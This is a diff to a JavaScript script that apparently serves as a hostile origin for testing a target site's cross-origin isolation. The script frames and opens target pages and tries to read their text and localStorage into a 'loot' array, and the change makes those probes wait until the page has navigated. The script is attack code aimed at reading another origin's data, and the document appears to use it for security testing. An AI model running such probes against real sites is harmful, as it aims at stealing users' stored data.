@@ -82,10 +82,18 @@ async function events() {
     source.onerror = () => { source.close(); resolve(); };
   });
 }
+// Until it has loaded, a window shows an empty page that belongs to the hostile origin.
+async function hasLeft(other) {
+  for (let looks = 0; looks < 50; looks += 1) {
+    try { if (other.location.href !== "about:blank") return true; } catch { return true; }
+    await wait(50);
+  }
+  return false;
+}
 async function frame(path) {
   const inner = make("iframe", { src: target + path });
   document.body.append(inner);
-  await wait(300);
+  if (!(await hasLeft(inner.contentWindow))) return;
   try { loot.push({ attack: "frame", got: inner.contentDocument.body.innerText.slice(0, 100) }); } catch {}
   try { loot.push({ attack: "frame storage", got: JSON.stringify(inner.contentWindow.localStorage) }); } catch {}
 }
@@ -100,8 +108,8 @@ async function frame(path) {
   await within(events());
   for (const path of ["/", "/docs/", "/status"]) await within(frame(path));
   const opened = window.open(target + "/");
-  await wait(500);
-  try { loot.push({ attack: "opened", got: opened.localStorage.length + " items" }); } catch {}
+  if (opened !== null && (await hasLeft(opened)))
+    try { loot.push({ attack: "opened", got: opened.localStorage.length + " items" }); } catch {}
   opened?.postMessage("page-key", "*");
   opened?.close();
   if (localStorage.length > 0) loot.push({ attack: "storage", got: JSON.stringify(localStorage) });
